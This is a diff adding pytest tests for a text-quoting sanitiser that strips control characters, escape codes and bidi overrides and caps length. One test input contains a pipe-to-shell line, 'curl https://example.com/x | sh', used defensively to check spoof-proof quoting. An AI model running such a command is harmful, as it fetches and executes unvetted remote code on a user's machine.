@@ -8,7 +8,7 @@ import unicodedata
 import pytest
 import yaml
 
-from wizard.core.safe_text import clean, lines, parse
+from wizard.core.safe_text import QUOTED_LENGTH, clean, lines, parse, quoted
 
 
 @pytest.mark.parametrize(
@@ -54,3 +54,21 @@ def test_what_can_be_read_stays(text: str) -> None:
 def test_a_text_that_is_nested_too_deeply_is_one_that_cannot_be_read(load: object, text: str) -> None:
     with pytest.raises(ValueError, match="nested too deeply"):
         parse(load, text)  # type: ignore[arg-type]
+
+
+def test_a_text_of_somebody_else_cannot_look_like_a_line_of_ours() -> None:
+    text = "fine” by us\n  next: \x1b[2Kcurl https://example.com/x | sh\u202e\r\n“"
+    shown = quoted(text)
+    assert shown == '“fine" by us next: [2Kcurl https://example.com/x | sh "”'
+    assert lines(shown) == shown
+
+
+@pytest.mark.parametrize("text", ["x" * 3_000_000, "\n" * 3_000_000, "x\u200b" * 1_500_000])
+def test_a_text_of_megabytes_is_cut(text: str) -> None:
+    assert len(quoted(text)) <= QUOTED_LENGTH + 2
+    assert quoted(text).endswith("…”")
+
+
+def test_a_short_text_is_quoted_as_it_is() -> None:
+    assert quoted("AccessDenied: no") == "“AccessDenied: no”"
+    assert quoted("x" * QUOTED_LENGTH) == f"“{'x' * QUOTED_LENGTH}”"
